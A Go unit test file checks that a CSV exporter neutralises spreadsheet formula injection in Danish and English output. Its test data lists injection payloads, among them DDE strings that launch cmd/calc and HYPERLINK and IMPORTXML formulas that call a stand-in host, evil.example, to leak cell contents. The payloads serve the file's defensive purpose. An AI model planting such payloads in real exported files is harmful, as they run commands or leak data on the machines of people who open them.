package page

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"beredskab/internal/proof"
)

// TestCSV: a list opens in a spreadsheet of its language, and no text of a plan
// is computed there.
func TestCSV(t *testing.T) {
	list := Table{Columns: Columns("Navn", ">Tal"), Rows: [][]string{{`=cmd|'/c calc'!A1`, "-5"}, {"Løn; \"og\" mere\nlinje", "+1,5"}, {"@a", ""}}}
	for lang, want := range map[string]string{
		"da": "\ufeffNavn;Tal\r\n'=cmd|'/c calc'!A1;-5\r\n\"Løn; \"\"og\"\" mere\r\nlinje\";'+1,5\r\n'@a;\r\n",
		"en": "\ufeffNavn,Tal\r\n'=cmd|'/c calc'!A1,-5\r\n\"Løn; \"\"og\"\" mere\r\nlinje\",\"'+1,5\"\r\n'@a,\r\n",
	} {
		var b strings.Builder
		if err := WriteCSV(&b, &Document{Lang: lang, List: list}); err != nil || b.String() != want {
			t.Errorf("%s: %v\n%q\nwant\n%q", lang, err, b.String(), want)
		}
	}
}

// formulas are more than 100 texts that a spreadsheet would compute, or that would
// begin a cell or a line of their own with such a text.
func formulas() (list []string) {
	for _, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\";=", "\n\"=", "x\r\n=", "x;=", "x,="} {
		for _, rest := range []string{"cmd|' /C calc'!A0", "HYPERLINK(\"https://evil.example/?\"&A1)", "1+1", "IMPORTXML(\"https://evil.example\")", "SUM(A1:A9)*cmd|'/c x'!A1", "DDE(\"cmd\";\"/C calc\")", "-2+3+cmd|'x'!A0"} {
			list = append(list, begin+rest)
		}
	}
	return list
}

// computed tells whether a spreadsheet takes the cell for a formula.
func computed(cell string) bool {
	return strings.IndexFunc(cell, func(r rune) bool { return strings.ContainsRune("=+-@\t\r\n＝＋－＠", r) }) == 0
}

// TestFormulas is S19: each of them comes out as one cell, as a text.
func TestFormulas(t *testing.T) {
	failed, plain := 0, 0
	for _, lang := range []string{"da", "en"} {
		list := Table{Columns: Columns("Navn", "Tekst")}
		for _, evil := range formulas() {
			list.Rows = append(list.Rows, []string{evil, "x"})
		}
		var b strings.Builder
		if err := WriteCSV(&b, &Document{Lang: lang, List: list}); err != nil {
			t.Fatal(err)
		}
		in := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
		if lang == "da" {
			in.Comma = ';'
		}
		rows, err := in.ReadAll()
		if err != nil || len(rows) != len(formulas())+1 {
			t.Fatalf("%s: %d rows of %d, %v", lang, len(rows), len(formulas())+1, err)
		}
		for i, row := range rows[1:] {
			if len(row) != 2 || row[1] != "x" || computed(row[0]) {
				failed++
				t.Errorf("%s: %q came out as %q", lang, formulas()[i], row)
			}
			if computed(formulas()[i]) {
				plain++
			}
		}
	}
	proof.Report(t, proof.Figure{
		ID: "S19", What: "texts that spreadsheets compute", Count: 2 * len(formulas()), Unit: "cells", Failed: failed,
		Found: "each one cell, and a text", Control: fmt.Sprintf("written as they are, %d would be computed", plain),
	})
}
